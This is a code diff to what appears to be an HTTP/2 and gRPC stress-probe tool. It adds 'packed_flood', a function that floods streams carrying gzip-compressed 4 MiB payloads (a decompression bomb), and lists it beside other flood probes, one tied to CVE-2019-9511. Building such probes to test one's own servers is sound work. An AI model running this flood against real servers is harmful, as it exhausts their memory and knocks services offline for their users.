@@ -4,6 +4,7 @@
 its work nor its memory is counted with anybody else's.
 """
 
+import gzip
 import os
 import resource
 import socket
@@ -302,6 +303,23 @@ def unread_answers(address: str, count: int = 100_000) -> Seen:
     return _flood(address, count, pieces, is_read=False)
 
 
+def packed_flood(address: str, count: int = 2_000) -> Seen:
+    """Send messages of 4 MiB in 4 KiB."""
+    block = hpack.write(call_headers(RESOLVE, (b"grpc-encoding", b"gzip")))
+    body = message(gzip.compress(bytes(4 << 20)), flag=1)
+
+    def pieces(connection: Connection) -> Iterator[tuple[int, bytes]]:
+        while True:
+            number = connection.stream()
+            yield (
+                1,
+                frame(Kind.HEADERS, block, flags=END_HEADERS, stream=number)
+                + frame(Kind.DATA, body, flags=END_STREAM, stream=number),
+            )
+
+    return _flood(address, count, pieces)
+
+
 def dribbled_window(address: str, count: int = 50_000) -> Seen:
     """Take large answers an octet at a time (CVE-2019-9511)."""
 
@@ -470,6 +488,7 @@ PROBES: Final[dict[str, Callable[[str], Seen]]] = {
         priority_flood,
         reset_flood,
         unread_answers,
+        packed_flood,
         dribbled_window,
         zero_window,
         never_reading,
